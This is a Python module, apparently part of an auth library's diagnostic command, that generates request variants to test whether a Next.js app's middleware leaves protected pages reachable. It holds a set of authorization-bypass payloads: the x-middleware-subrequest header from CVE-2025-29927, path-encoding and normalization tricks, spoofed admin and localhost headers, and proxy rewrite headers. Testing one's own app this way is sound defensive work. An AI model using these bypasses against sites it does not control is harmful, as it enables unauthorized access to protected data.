"""The forms of a request for a path that a front end may forget to protect."""

from collections.abc import Iterator
from dataclasses import dataclass
from typing import Final

from bymax_auth.cli.doctor.exchange import Question

__all__ = ["PREFETCHES", "Form", "Forms", "forms_of"]

_MIDDLEWARE: Final = ("middleware", "src/middleware", "proxy", "src/proxy")
_MAX_RECURSION: Final = 5

PREFETCHES: Final = (
    (("purpose", "prefetch"), ("sec-fetch-mode", "no-cors"), ("sec-fetch-dest", "empty")),
    (("sec-purpose", "prefetch"),),
    (("sec-purpose", "prefetch;prerender"),),
    (("x-moz", "prefetch"),),
    (
        ("rsc", "1"),
        ("next-router-prefetch", "1"),
        ("next-url", "/"),
        ("sec-fetch-mode", "cors"),
        ("sec-fetch-dest", "empty"),
    ),
)
"""How browsers and the Next.js router mark that nobody has opened the page yet."""


@dataclass(frozen=True, slots=True)
class Form:
    """
    A way to ask for a path.

    Args:
        pattern: The target, where ``{path}`` stands for the path, ``{folder}`` for what precedes its last
            segment, and ``{last}`` for that; or words that `_PARTS` names.
        headers: Sent with it; their values may have the same names.
    """

    pattern: str = "{path}"
    headers: tuple[tuple[str, str], ...] = ()

    def question(self, path: str) -> Question:
        """Return the request for a path."""
        parts = _parts(path)
        headers = tuple((name, value.format_map(parts)) for name, value in self.headers)
        return Question(self.pattern.format_map(parts), headers)


@dataclass(frozen=True, slots=True)
class Forms:
    """Every form: those by which pages have been opened most often, and the others."""

    telling: tuple[Form, ...]
    others: tuple[Form, ...]

    def __iter__(self) -> Iterator[Form]:
        """Yield every form, the most telling ones first."""
        yield from (*self.telling, *self.others)


def forms_of(login: str, unknown: str, build: str | None) -> Forms:
    """
    Return every form.

    Args:
        login: The path of the login page, which is public.
        unknown: A path that the application does not have.
        build: The build of a Next.js application, if its pages name it.
    """
    data = f"/_next/data/{build or 'development'}{{path}}.json"
    telling = dict.fromkeys(_telling(data, login))
    return Forms(tuple(telling), tuple(form for form in _every(data, login, unknown) if form not in telling))


def _telling(data: str, login: str) -> Iterator[Form]:
    # Source: CVE-2025-29927, a header of Next.js that skips its middleware.
    for name in _MIDDLEWARE:
        yield Form(headers=(("x-middleware-subrequest", ":".join([name] * _MAX_RECURSION)),))
    yield Form("{path}.rsc")
    yield Form(headers=(("rsc", "1"),))
    yield Form(data, (("x-nextjs-data", "1"),))
    yield from map(Form, ("{path}/", "//{path}", "{folder}/{encoded}", "{folder}/{upper}", "{path}%2f"))
    yield Form("{path}.segments/_tree.segment.rsc")
    for name in _ADDRESSES[:2]:
        yield Form(login, ((name, "{path}"),))


def _every(data: str, login: str, unknown: str) -> Iterator[Form]:
    yield from map(Form, _TARGETS)
    yield Form(data)
    yield Form(data, (("x-nextjs-data", "1"),))
    for name, value in _HEADERS:
        yield Form(headers=((name, value),))
    for name in _MIDDLEWARE:
        yield Form(headers=(("x-middleware-subrequest", name),))
        yield Form(headers=(("x-middleware-subrequest", ":".join([name] * _MAX_RECURSION)),))
    yield Form(headers=(("rsc", "1"), ("next-router-prefetch", "1")))
    yield Form(headers=(("rsc", "1"), ("next-router-segment-prefetch", "/_tree")))
    for prefetch in PREFETCHES:
        yield Form(headers=prefetch)
    for name in _ADDRESSES:
        yield Form(headers=((name, login),))
        for carrier in (login, unknown):
            yield Form(carrier, ((name, "{path}"),))


_TARGETS: Final = (
    "{path}/",
    "{path}.",
    "{path}/.",
    "{path}//",
    "{path}%2e",
    "{path}%2f",
    "{path}%20",
    "{path}%00",
    "{path};a=b",
    "/{path}",
    "//{path}",
    "/.{path}",
    "/%2e{path}",
    "/a/..{path}",
    "/a/%2e%2e{path}",
    "/%5c{bare}",
    "{folder}//{last}",
    "{folder}/./{last}",
    "{folder}/%2e/{last}",
    "{folder}/{encoded}",
    "{folder}/{encoded_a}",
    "{folder}/{encoded_all}",
    "{folder}/{encoded_twice}",
    "{folder}/{capital}",
    "{folder}/{upper}",
    "{path}.rsc",
    "{path}.txt",
    "{path}.json",
    "{path}.html",
    "{path}/index",
    "{path}/index.rsc",
    "{path}/index.html",
    "{path}.segments/_full.segment.rsc",
    "{path}.segments/_tree.segment.rsc",
    "{path}?_rsc=1",
    "{path}?__nextDataReq=1",
)

_HEADERS: Final = (
    ("rsc", "1"),
    ("next-router-prefetch", "1"),
    ("next-router-state-tree", "%5B%22%22%2C%7B%7D%2Cnull%2Cnull%2Ctrue%5D"),
    ("next-url", "/"),
    ("x-nextjs-data", "1"),
    ("x-middleware-next", "1"),
    ("x-middleware-prefetch", "1"),
    ("x-middleware-override-headers", "x-user-id"),
    ("x-forwarded-for", "127.0.0.1"),
    ("x-user-id", "1"),
    ("x-user-role", "ADMIN"),
)

_ADDRESSES: Final = (
    "x-original-url",
    "x-rewrite-url",
    "x-forwarded-uri",
    "x-invoke-path",
    "x-matched-path",
    "x-middleware-rewrite",
)
"""Headers by which a proxy tells the application which address was asked for."""


def _parts(path: str) -> dict[str, str]:
    folder, _, last = path.rpartition("/")
    # A path that ends in a slash has its last segment before it.
    if not last:
        folder, _, last = folder.rpartition("/")
    return {
        "path": f"{folder}/{last}",
        "bare": f"{folder}/{last}"[1:],
        "folder": folder,
        "last": last,
        "encoded": _hex(last[:1]) + last[1:],
        "encoded_a": last.replace("a", "%61", 1),
        "encoded_all": _hex(last),
        "encoded_twice": _hex(last[:1]).replace("%", "%25") + last[1:],
        "capital": last[:1].swapcase() + last[1:],
        "upper": last.swapcase(),
    }


def _hex(text: str) -> str:
    # What is encoded already stays so.
    return text if "%" in text else "".join(f"%{ord(one):02x}" for one in text)
